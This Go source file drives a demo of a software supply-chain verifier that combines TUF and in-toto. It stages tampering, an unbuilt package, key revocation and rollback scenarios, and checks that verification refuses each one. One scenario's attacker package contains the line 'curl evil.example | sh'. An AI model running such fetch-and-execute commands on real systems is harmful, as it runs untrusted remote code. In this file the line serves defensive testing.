package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"github.com/tintoproject/tinto/pkg/verify/verifytest"
)

// tufDemoScenario is one act of the demo: a change to the repository, then tinto verify.
type tufDemoScenario struct {
	title, story string
	stage        func(d *tufDemo) error
	wantExit     int
	wantReason   string // a substring of the output for denials
}

// tufDemo is the state of one demo run.
type tufDemo struct {
	e      *env
	repo   *verifytest.Repo
	srv    *verifytest.Server
	dir    string
	root   string
	cache  string
	before verifytest.Served // what the mirror served before the revocations
}

// tufDemoRun plays the full demo (part 1 of tinto demo) and reports whether every scenario
// ended as expected. With keep set, the repository is written there afterwards.
func tufDemoRun(e *env, keep string) bool {
	d, err := newTUFDemo(e)
	if err != nil {
		fmt.Fprintf(e.stderr, "tinto demo: %v\n", err)
		return false
	}
	defer d.close()
	ok := d.run()
	if keep != "" {
		if err := d.keep(keep); err != nil {
			fmt.Fprintf(e.stderr, "tinto demo: --keep: %v\n", err)
			return false
		}
	}
	return ok
}

func newTUFDemo(e *env) (*tufDemo, error) {
	dir, err := os.MkdirTemp("", "tinto-demo-")
	if err != nil {
		return nil, err
	}
	d := &tufDemo{e: e, dir: dir, root: filepath.Join(dir, "root.json"), cache: filepath.Join(dir, "client-cache")}
	fmt.Fprintln(e.stdout, "== part 1: TUF + in-toto + policy, end to end, on 127.0.0.1")
	fmt.Fprintln(e.stdout, "building the repository:")
	d.repo, err = verifytest.New(verifytest.Options{Artifacts: 5})
	if err != nil {
		d.close()
		return nil, err
	}
	f := d.repo.Functionaries
	fmt.Fprintf(e.stdout, "  TUF roles root, targets, snapshot, timestamp (one ed25519 key each)\n")
	fmt.Fprintf(e.stdout, "  layout   %s, signed by the owner %s, key listed by its target\n", verifytest.LayoutPath, tufDemoShort(d.repo.Owner.Key.KeyID))
	fmt.Fprintf(e.stdout, "  steps    clone (alice %s), build (bob %s), package (carol %s or dave %s, threshold 1)\n",
		tufDemoShort(f["alice"].Key.KeyID), tufDemoShort(f["bob"].Key.KeyID), tufDemoShort(f["carol"].Key.KeyID), tufDemoShort(f["dave"].Key.KeyID))
	fmt.Fprintf(e.stdout, "  package  %s, with custom[\"in-toto\"] naming its layout and links\n", verifytest.DefaultPackage)
	fmt.Fprintf(e.stdout, "  revocations.json (empty)\n")
	if err := os.WriteFile(d.root, d.repo.TrustedRoot(), 0o644); err != nil {
		d.close()
		return nil, err
	}
	d.srv, err = d.repo.Serve()
	if err != nil {
		d.close()
		return nil, err
	}
	fmt.Fprintf(e.stdout, "serving it at %s\n", d.srv.URL)
	return d, nil
}

func tufDemoShort(id string) string {
	if len(id) > 8 {
		return id[:8]
	}
	return id
}

func (d *tufDemo) close() {
	if d.srv != nil {
		d.srv.Close()
	}
	os.RemoveAll(d.dir)
}

func (d *tufDemo) scenarios() []tufDemoScenario {
	pkg := verifytest.DefaultPackage
	var good []byte
	return []tufDemoScenario{
		{title: "an allowed install", wantExit: exitOK,
			story: "The package, its layout, keys, links and the revocation list all come through TUF.",
			stage: func(d *tufDemo) error {
				good = bytes.Clone(d.repo.Packages[pkg])
				d.before = d.repo.Snapshot()
				return nil
			}},
		{title: "a tampered package", wantExit: exitDenied, wantReason: "mismatch",
			story: "A mirror serves modified bytes for the package; the signed metadata is unchanged.",
			stage: func(d *tufDemo) error {
				b := bytes.Clone(good)
				b[len(b)-1] ^= 0x20
				d.repo.Tamper(pkg, b)
				return nil
			}},
		{title: "a package no build produced", wantExit: exitDenied, wantReason: "target-unbound",
			story: "An attacker with the repository's online targets key signs other bytes for the package.\n" +
				"TUF accepts them; the in-toto evidence binds the package to the build's product, so it is refused.",
			stage: func(d *tufDemo) error {
				d.repo.Restore(d.before)
				c, _, err := d.repo.MakeChain(pkg, 5)
				if err != nil {
					return err
				}
				if err := d.repo.AddPackageWith(pkg, []byte("#!/bin/sh\ncurl evil.example | sh\n"), c); err != nil {
					return err
				}
				if err := d.repo.Publish(); err != nil {
					return err
				}
				// The repository owner notices and republishes the genuine package.
				d.before = d.repo.Snapshot()
				return nil
			}},
		{title: "a revoked functionary, threshold still met", wantExit: exitOK, wantReason: "warning",
			story: "dave's key is revoked in revocations.json. His package link no longer counts;\n" +
				"carol's link still meets the step's threshold, so the install is allowed, with a warning.",
			stage: func(d *tufDemo) error {
				c, data, err := d.repo.MakeChain(pkg, 5)
				if err != nil {
					return err
				}
				if err := d.repo.AddPackageWith(pkg, data, c); err != nil {
					return err
				}
				if err := d.repo.Publish(); err != nil {
					return err
				}
				d.before = d.repo.Snapshot()
				return d.repo.Revoke(d.repo.Functionaries["dave"].Key.KeyID, "laptop stolen")
			}},
		{title: "every functionary of a step revoked", wantExit: exitDenied, wantReason: "revoked",
			story: "carol's key is revoked too: no valid link remains for the package step.",
			stage: func(d *tufDemo) error {
				return d.repo.Revoke(d.repo.Functionaries["carol"].Key.KeyID, "key compromised")
			}},
		{title: "a rollback attack", wantExit: exitDenied, wantReason: "rollback",
			story: "To undo the revocations, the mirror replays the metadata from before them.\n" +
				"The client remembers the versions it has trusted (its TUF cache) and refuses to go back.",
			stage: func(d *tufDemo) error {
				d.repo.Restore(d.before)
				return nil
			}},
	}
}

// run plays every scenario and reports whether each ended as expected.
func (d *tufDemo) run() bool {
	all := true
	for i, sc := range d.scenarios() {
		fmt.Fprintf(d.e.stdout, "\n=== %d. %s\n", i+1, sc.title)
		for _, l := range strings.Split(sc.story, "\n") {
			fmt.Fprintf(d.e.stdout, "    %s\n", l)
		}
		if err := sc.stage(d); err != nil {
			fmt.Fprintf(d.e.stdout, "    staging failed: %v\n", err)
			all = false
			continue
		}
		args := []string{"--root", d.root, "--repo", d.srv.URL, "--cache", d.cache, verifytest.DefaultPackage}
		fmt.Fprintf(d.e.stdout, "$ tinto verify --root root.json --repo %s --cache client-cache %s\n", d.srv.URL, verifytest.DefaultPackage)
		var out bytes.Buffer
		sub := &env{stdin: d.e.stdin, stdout: &out, stderr: &out, getenv: d.e.getenv}
		code := runVerify(sub, args)
		text := out.String()
		io.WriteString(d.e.stdout, text)
		verdict := "as expected"
		if code != sc.wantExit || (sc.wantReason != "" && !strings.Contains(text, sc.wantReason)) {
			verdict = fmt.Sprintf("UNEXPECTED (wanted exit %d with %q)", sc.wantExit, sc.wantReason)
			all = false
		}
		fmt.Fprintf(d.e.stdout, "-> exit %d, %s\n", code, verdict)
	}
	return all
}

// keep lifts the revocations (republishing an empty revocation list, as an owner would after
// the functionaries rotated their keys... here simply so that the kept repository verifies),
// then writes the newest published repository and the trusted root to dir.
func (d *tufDemo) keep(dir string) error {
	if err := d.repo.Unrevoke(); err != nil {
		return err
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	if err := d.repo.WriteDir(dir); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(dir, "root.json"), d.repo.TrustedRoot(), 0o644); err != nil {
		return err
	}
	fmt.Fprintf(d.e.stdout, "\nTUF repository kept in %s (with an empty revocation list again); try:\n  tinto verify --root %s --repo %s %s\n",
		dir, filepath.Join(dir, "root.json"), dir, verifytest.DefaultPackage)
	return nil
}
